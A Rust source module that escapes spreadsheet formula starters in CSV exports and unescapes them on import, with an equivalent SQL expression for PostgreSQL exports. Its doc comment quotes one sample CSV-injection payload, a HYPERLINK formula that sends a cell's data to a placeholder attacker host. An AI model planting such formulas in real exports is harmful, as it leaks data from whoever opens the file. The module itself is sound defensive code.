//! Cells that a spreadsheet would run as formulas (OWASP "CSV injection").
//!
//! Excel, LibreOffice and Google Sheets read a cell beginning with `=`, `+`, `-` or `@` as a
//! formula, and some skip a leading tab or carriage return first: a competitor called
//! `=HYPERLINK("https://evil.example?"&A1, "Click")` would run on the admin's machine that opens
//! the export. Every free-text cell MarketEdge writes to a CSV file is therefore passed through
//! [`escape`] (or, inside PostgreSQL's `COPY`, [`escape_sql`]), which puts a `'` in front of such a
//! cell: spreadsheets take a leading `'` as "text" and do not show it.
//!
//! A cell that already begins with `'` gets one more, so that every importer can apply
//! [`unescape`], which takes off exactly one `'` and only in front of one of these characters:
//! what was exported imports back as it was stored, and a name written by hand such as
//! `'t Sportcentrum` is read as written.
//!
//! This module does not decide which cells are free text: each file's writer does. Numbers are
//! never escaped (a negative price change must stay a number in the spreadsheet).

use std::borrow::Cow;

/// The first characters that make a cell need a leading `'`: the formula starters, the two
/// whitespace characters spreadsheets skip before them, and the `'` itself (so that removing one
/// `'` on import is exact).
pub const MARKED_STARTS: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];

fn needs_mark(cell: &str) -> bool {
    cell.starts_with(MARKED_STARTS)
}

/// The cell as it may be written to a CSV file.
pub fn escape(cell: &str) -> Cow<'_, str> {
    if needs_mark(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// The value of a cell read from a CSV file: one leading `'` removed when [`escape`] would have
/// put it there, anything else unchanged.
pub fn unescape(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if needs_mark(rest) => rest,
        _ => cell,
    }
}

/// [`escape`] as an SQL expression of the text expression `column` (`NULL` stays `NULL`). The
/// characters are written as `chr(n)`, so none of them needs quoting inside the SQL.
pub fn escape_sql(column: &str) -> String {
    let marked: Vec<String> =
        MARKED_STARTS.iter().map(|c| format!("chr({})", u32::from(*c))).collect();
    format!(
        "CASE WHEN left(({column})::text, 1) IN ({}) THEN chr(39) || ({column})::text \
         ELSE ({column})::text END",
        marked.join(", ")
    )
}

#[cfg(test)]
mod tests;
